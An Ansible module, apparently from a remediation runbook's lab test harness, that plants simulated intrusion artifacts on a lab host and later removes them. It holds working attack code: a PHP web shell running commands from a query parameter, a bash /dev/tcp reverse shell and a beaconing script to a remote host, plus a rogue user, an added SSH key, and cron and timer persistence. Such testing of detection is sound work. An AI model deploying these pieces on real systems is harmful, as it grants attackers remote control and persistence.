#!/usr/bin/python
"""Breaks into a lab host as intruders do, and takes all of it away again."""

from __future__ import annotations

import contextlib
import shutil
import subprocess
from pathlib import Path

from ansible.module_utils.basic import AnsibleModule

DOCUMENTATION = r"""
---
module: lab_intruder
short_description: Break into a lab host, or take every trace away
description:
  - Uses nothing of the runbook's own code, or it would prove nothing about it.
options:
  plant:
    description: What to plant; nothing takes everything away.
    type: list
    elements: str
    choices:
      [web_shell, unknown_user, unknown_key, unknown_cron, unexpected_process, outbound_connection, reverse_shell]
    default: []
  storage:
    description: The application's storage directory.
    type: path
    required: true
  key:
    description: The intruder's public key.
    type: str
    default: ""
  known_key:
    description: A public key that belongs to the host.
    type: str
    required: true
  remote:
    description: The address of another host, on which port 9090 answers.
    type: str
    default: ""
author:
  - The remediate authors
"""

EXAMPLES = r"""
- name: Break in
  lab_intruder:
    plant: [web_shell]
    storage: /opt/chom/storage
    known_key: ssh-ed25519 AAAA
"""

RETURN = r"""#"""

KEYS = Path("/etc/ssh/authorized_keys")
USER = "helpdesk"
CRON = Path("/etc/cron.d/system-update")
TIMER = Path("/etc/systemd/system/system-update.timer")
SERVICE = Path("/etc/systemd/system/system-update.service")
PROGRAM = Path("/var/tmp/.cache-daemon")  # noqa: S108 - that is where intruders put things
UNITS = ("lab-cache-daemon", "lab-beacon", "lab-reverse-shell")
BEACON = """
import socket, sys, time
while True:
    try:
        with socket.create_connection((sys.argv[1], 9090), timeout=2) as link:
            while True:
                link.sendall(b"GET /-/healthy HTTP/1.1\\r\\nHost: beacon\\r\\n\\r\\n")
                if not link.recv(4096):
                    break
                open("/run/lab-beacon", "w").write("heard")
                time.sleep(0.3)
    except OSError:
        time.sleep(0.3)
"""
REVERSE = 'exec 5<>"/dev/tcp/$0/9090" && exec bash <&5 >&5 2>&5'


def run(*argv: str, check: bool = True) -> None:
    """Run a program."""
    subprocess.run(argv, check=check, capture_output=True)


def detached(unit: str, *argv: str) -> None:
    """Start a program that goes on by itself."""
    run("systemd-run", "--quiet", "--collect", f"--unit={unit}", *argv)


def web_shell(storage: Path) -> None:
    """Put a shell where the front controller reads a file that the application may write."""
    shell = storage / "framework/maintenance.php"
    shell.write_text("<?php if (isset($_GET['c'])) { system($_GET['c']); exit; }\n")
    shutil.chown(shell, "www-data", "www-data")
    shell.chmod(0o644)


def plant(what: str, module: AnsibleModule) -> None:
    """Plant one thing."""
    given = module.params
    if what == "web_shell":
        web_shell(Path(given["storage"]))
    elif what == "unknown_user":
        run("useradd", "--create-home", "--shell", "/bin/bash", USER)
        (KEYS / USER).write_text(given["known_key"].strip() + "\n")
    elif what == "unknown_key":
        with (KEYS / "ops").open("a") as keys:
            keys.write(given["key"].strip() + "\n")
    elif what == "unknown_cron":
        CRON.parent.mkdir(exist_ok=True)
        CRON.write_text("* * * * * root touch /run/lab-cron\n")
        SERVICE.write_text("[Service]\nType=oneshot\nExecStart=/usr/bin/touch /run/lab-cron\n")
        TIMER.write_text("[Timer]\nOnActiveSec=0\nOnUnitInactiveSec=1\nAccuracySec=100ms\n")
        run("systemctl", "daemon-reload")
        run("systemctl", "start", TIMER.name)
    elif what == "unexpected_process":
        shutil.copy("/usr/bin/sleep", PROGRAM)
        detached(UNITS[0], str(PROGRAM), "86400")
    elif what == "outbound_connection":
        detached(UNITS[1], "/usr/bin/python3", "-c", BEACON, given["remote"])
    elif what == "reverse_shell":
        detached(UNITS[2], "/usr/bin/bash", "-c", REVERSE, given["remote"])


def clean(module: AnsibleModule) -> None:
    """Take everything away, and what runs have left."""
    run("nft", "delete", "table", "inet", "remediate_containment", check=False)
    run("systemctl", "stop", "remediate-containment-safety.timer", TIMER.name, *UNITS, check=False)
    run("systemctl", "reset-failed", *UNITS, check=False)
    run("userdel", "--remove", "--force", USER, check=False)
    storage = Path(module.params["storage"])
    left = [
        CRON,
        TIMER,
        SERVICE,
        PROGRAM,
        KEYS / USER,
        storage / "framework/maintenance.php",
        storage / "framework/down",
    ]
    left += [Path("/run") / name for name in ("lab-cron", "lab-beacon")]
    for path in left:
        with contextlib.suppress(FileNotFoundError):
            path.unlink()
    (KEYS / "ops").write_text(module.params["known_key"].strip() + "\n")
    for state in ("/var/lib/remediate/data_breach", "/run/remediate/data_breach"):
        shutil.rmtree(state, ignore_errors=True)
    if not TIMER.exists():
        run("systemctl", "daemon-reload")


def main() -> None:
    """Run as an Ansible module."""
    module = AnsibleModule(
        argument_spec={
            "plant": {"type": "list", "elements": "str", "default": []},
            "storage": {"type": "path", "required": True},
            "key": {"type": "str", "default": "", "no_log": False},
            "known_key": {"type": "str", "required": True, "no_log": False},
            "remote": {"type": "str", "default": ""},
        }
    )
    if not module.params["plant"]:
        clean(module)
    for what in module.params["plant"]:
        plant(what, module)
    module.exit_json(changed=True)


if __name__ == "__main__":
    main()
